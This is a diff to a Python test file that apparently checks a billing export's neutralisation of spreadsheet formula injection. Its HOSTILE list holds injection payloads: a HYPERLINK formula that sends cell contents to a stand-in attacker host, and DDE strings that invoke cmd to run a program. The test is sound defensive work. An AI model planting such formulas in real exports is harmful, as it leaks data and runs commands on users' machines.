@@ -17,7 +17,7 @@ from ivr.billing.export import neutralise
 from storage.models import Account, Meter, Reading
 
 HOSTILE = [
-    '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")',
+    '=HYPERLINK("http://ev.il/?"&A1)',
     "+1+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -38,7 +38,7 @@ def test_plain_numbers_and_ordinary_text_are_left_alone(cell: str) -> None:
 
 @pytest.fixture
 def hostile_rows(app: Flask, engine: Engine) -> None:
-    """Accounts and serials an attacker could get into the billing data (one per hostile cell)."""
+    """Accounts and serials an attacker could get into the billing data (32 characters each)."""
     with Session(engine) as db:
         when = datetime(2026, 3, 23, 7, 15, tzinfo=UTC)
         for index, cell in enumerate(HOSTILE):
